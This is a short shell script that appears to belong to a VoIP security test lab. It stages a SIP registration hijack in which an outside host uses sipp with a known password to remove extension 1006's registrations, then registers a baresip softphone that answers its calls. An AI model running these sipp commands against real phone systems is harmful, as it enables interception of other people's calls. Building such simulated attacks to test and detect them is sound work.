# With the right password somebody outside removes all registrations of 1006 and registers a phone of
# his own; calls for 1006 ring there only, until the owner's phone registers again.
open_office -A WITH_ROAMING
add_attacker thief 198.51.100.220
start_office_capture
keep_alive 15
office_day 115 105 20-62
set_up_softphone thief thief 1006 60 secret1006
at 18 attack A1-1 hijack:registration_hijack thief 5070 "Somebody outside removes the registrations of 1006 with the right password, registers, and takes its calls." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/unregister-all.xml" -nostdin -m 1 -l 1 \
    -i 198.51.100.220 -p 5070 -s 1006 -au 1006 -ap secret1006 192.0.2.1:5060
at 20 attack A1-2 hijack:registration_hijack thief 5060 "Somebody outside removes the registrations of 1006 with the right password, registers, and takes its calls." \
    "$(version_of baresip)" baresip -v -f "$scratch/thief"
for second in 24 40; do
    at "$second" tell 1003 dial sip:1006@example.org
    at "$((second + 3))" tell thief accept
    at "$((second + 11))" tell 1003 hangup
done
at 95 tell thief quit
play
wait_for A1-1 A1-2
close_office
